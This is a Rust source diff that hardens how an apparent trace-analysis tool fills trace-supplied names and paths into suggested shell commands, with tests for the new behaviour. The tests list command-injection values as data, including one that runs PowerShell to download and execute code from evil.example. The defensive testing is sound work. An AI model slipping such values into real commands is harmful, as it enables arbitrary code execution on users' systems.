@@ -3,6 +3,9 @@
 //! `{column}` is the column's value in the format that its name asks for (`_ns`, `_bytes`, `_percent`, `share`), `{column:format}`
 //! in the format asked for; `{{` is a brace. Formats: `duration`, `bytes`, `percent` (of a share from 0 to 1), `count`,
 //! `plain` (a whole number as a command takes it), `number`, `energy` (joules), `text`.
+//!
+//! Names come from whoever made the trace, and what stands between backticks is typed in or copied. So only the text itself has
+//! backticks, and a name between them that a shell could take for more is left to the reader: `CULPRIT`.
 
 use etwhy_base::units::{bytes, digits, duration, energy, thousands};
 use etwhy_sql::Cell;
@@ -46,7 +49,20 @@ fn filled(text: &str, value: &dyn Fn(&str) -> Option<Cell>) -> (String, bool) {
             }
             Some(cell) => {
                 known &= cell != Cell::Null;
-                out.push_str(&shown(name, format, &cell));
+                let shown = shown(name, format, &cell);
+                let command = command_at_end(&out);
+                let is_number = !matches!(cell, Cell::Text(_));
+                if is_number || command.is_none_or(|before| is_harmless(&shown, between_quotes(before))) {
+                    out.push_str(&without_backticks(&shown));
+                } else if command == Some("") && behind.starts_with('`') {
+                    // A name alone is no command: it is quoted as a name.
+                    out.pop();
+                    let _ = write!(out, "'{}'", without_backticks(&shown));
+                    rest = behind.strip_prefix('`').unwrap_or(behind);
+                    continue;
+                } else {
+                    out.push_str(&placeholder(name));
+                }
                 if let (Cell::I64(1), Some((one, after))) = (&cell, singular(behind)) {
                     out.push_str(&one);
                     rest = after;
@@ -63,6 +79,45 @@ fn filled(text: &str, value: &dyn Fn(&str) -> Option<Cell>) -> (String, bool) {
     }
     out.push_str(&rest.replace("}}", "}"));
     (out, known)
+}
+
+/// What a command between backticks that is not complete has so far.
+fn command_at_end(text: &str) -> Option<&str> {
+    let is_open = text.matches('`').count() % 2 == 1;
+    text.rsplit('`').next().filter(|_| is_open)
+}
+
+/// What else is harmless where a command stops. Single quotes protect nothing in cmd.
+fn between_quotes(command: &str) -> &'static str {
+    if command.matches('"').count() % 2 == 1 { " /()" } else { "" }
+}
+
+/// True if sh, cmd and PowerShell all take a text for a part of one word, and no program takes it for an option. Letters beyond ASCII
+/// are out: code pages of Windows make quotes and pipes of some. Pool tags end in spaces, which begin no other word.
+fn is_harmless(text: &str, also: &str) -> bool {
+    let word = text.trim_end_matches(' ');
+    word.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
+        && word.chars().all(|c| c.is_ascii_alphanumeric() || "_-.+:".contains(c) || also.contains(c))
+}
+
+/// A value beside commands: whoever looks for commands finds those of the text.
+fn without_backticks(text: &str) -> String {
+    text.replace('`', "'")
+}
+
+/// What stands for a value that is to be typed in.
+pub(super) fn placeholder(name: &str) -> String {
+    label(name).to_uppercase().replace(' ', "-")
+}
+
+/// A path as a command takes it, in quotes if it needs them; `FILE` if a shell could take it for more.
+pub fn path_to_type(path: &str) -> String {
+    let name = path.trim_start_matches(['/', '\\', '.']);
+    // A backslash at the end would take the quote with it.
+    if !is_harmless(name, "/\\ ()") || path.ends_with('\\') {
+        return "FILE".to_owned();
+    }
+    if path.contains([' ', '(', ')']) { format!("\"{path}\"") } else { path.to_owned() }
 }
 
 /// Things that sentences count, as they stand behind a number.
@@ -207,5 +262,78 @@ mod tests {
             ["least_percent", "critical_machine_percent", "_ns", "hot_cpus"].map(label),
             ["least", "critical machine", " ns", "hot cpus"]
         );
+    }
+
+    #[test]
+    fn names_in_commands_are_harmless() {
+        let said = |text: &str, name: &str| fill(text, &|_| Some(Cell::Text(name.to_owned())));
+        let dump = "`etwhy dump clr_exception TRACE --where 'exception_type={exception_type}' --top 1`";
+        let enlarge = "Enlarge it: `wevtutil sl \"{log}\" /ms:1` or `{log:text}`.";
+        // Names as they are.
+        for (text, name, wanted) in [
+            ("`procdump -w {culprit}`", "my-app_2.exe", "`procdump -w my-app_2.exe`"),
+            ("`nslookup {name} ADDRESS`", "h0.example.com", "`nslookup h0.example.com ADDRESS`"),
+            ("`ping -l 1472 {remote}`", "fe80::1", "`ping -l 1472 fe80::1`"),
+            ("`poolmon /i{tag}`", "Leak", "`poolmon /iLeak`"),
+            ("`findstr /l {tag} *.sys`", "Fat ", "`findstr /l Fat  *.sys`"),
+            (
+                "`auditpol /get /subcategory:{{{guid}}} /r`",
+                "0CCE-69",
+                "`auditpol /get /subcategory:{0CCE-69} /r`",
+            ),
+            ("`wevtutil sl \"{log}\"`", "Windows PowerShell", "`wevtutil sl \"Windows PowerShell\"`"),
+            ("`wevtutil sl \"{log}\"`", "A-B/Operational", "`wevtutil sl \"A-B/Operational\"`"),
+            ("`{value}` under it", "Locale", "`Locale` under it"),
+            ("`{value}` under it", "Common AppData", "'Common AppData' under it"),
+        ] {
+            assert_eq!(said(text, name), wanted);
+        }
+        // Names that sh, cmd or PowerShell take for more, and those that programs take for options.
+        for name in [
+            "x'; touch PWNED; echo '",
+            "Security\" & start calc.exe & rem \"",
+            "h0.x & calc.exe & rem",
+            "a.exe & calc.exe &",
+            "';w;",
+            "a`powershell -nop iwr evil.example|iex`.exe",
+            "$(calc)",
+            "%PATH%",
+            "svchost.exe (calc)",
+            "a>b",
+            "a\nb",
+            "a\u{202e}b",
+            "a\u{1c0}calc",
+            "-x",
+            "/x",
+            "",
+        ] {
+            assert_eq!(said(dump, name), dump.replace("{exception_type}", "EXCEPTION-TYPE"), "{name}");
+            for text in ["`procdump -w {culprit}`", "`findstr /l {culprit} x`", "`poolmon /i{culprit}`"] {
+                assert_eq!(said(text, name), text.replace("{culprit}", "CULPRIT"), "{name}");
+            }
+            // Commands are those of the text, whatever names stand beside them.
+            let beside = said("{culprit}: `a b` of {culprit}, `c d`", name);
+            assert_eq!(beside.split('`').skip(1).step_by(2).collect::<Vec<_>>(), ["a b", "c d"], "{name}");
+            assert_eq!(beside.matches('`').count(), 4, "{name}");
+        }
+        assert_eq!(
+            said(enlarge, "Security\" & start calc.exe & rem \""),
+            "Enlarge it: `wevtutil sl \"LOG\" /ms:1` or 'Security\" & start calc.exe & rem \"'."
+        );
+        // Numbers have spaces of their own.
+        assert_eq!(fill("`x {cost_ns}`", &|_| Some(Cell::I64(1_500_000))), "`x 1.5 ms`");
+    }
+
+    #[test]
+    fn paths_in_commands_are_harmless() {
+        for path in ["a.etl", "/srv/fleet/a-1.etl", "../a.etl", r"C:\traces\a.etl", r"\\srv\share\a.etl"] {
+            assert_eq!(path_to_type(path), path);
+        }
+        assert_eq!(path_to_type(r"C:\My Traces\a (2).etl"), "\"C:\\My Traces\\a (2).etl\"");
+        for path in
+            ["/t/a$(touch PWNFLEET);b.etl", "a&b.etl", "a\"b", "%a%", "-o", "a\nb", r"C:\a b\", "`x`", ""]
+        {
+            assert_eq!(path_to_type(path), "FILE", "{path}");
+        }
     }
 }
